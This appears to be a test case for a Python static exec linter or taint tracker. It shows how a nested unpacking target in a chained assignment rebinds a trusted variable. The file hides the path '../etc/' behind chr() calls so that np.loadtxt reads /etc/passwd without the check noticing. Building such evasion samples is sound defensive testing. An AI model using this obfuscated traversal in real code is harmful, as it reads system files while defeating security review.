# source: https://github.com/unslothai/unsloth/pull/9777 and https://github.com/unslothai/unsloth-zoo/pull/1113 (a static exec linter missed bindings made by the later targets of a chained assignment and by unpacking); https://github.com/python-security/pyt/pull/164 (unpacking targets lost by a taint tracker)
# family: a path-component name trusted as one string literal, rebound by a nested list target of a three-way chained assignment
# goal: np.loadtxt() reads /etc/passwd
import numpy as np
import pandas as pd

up = chr(46) * 2 + chr(47) + "etc" + chr(47)   # "../etc/", built at run time (cwd is /tmp)
name = "prices"                                 # the check reads only this binding
x = z = [[name]] = [[up]]
print(np.loadtxt(f"{name}passwd", dtype=str, delimiter=":", max_rows=4))
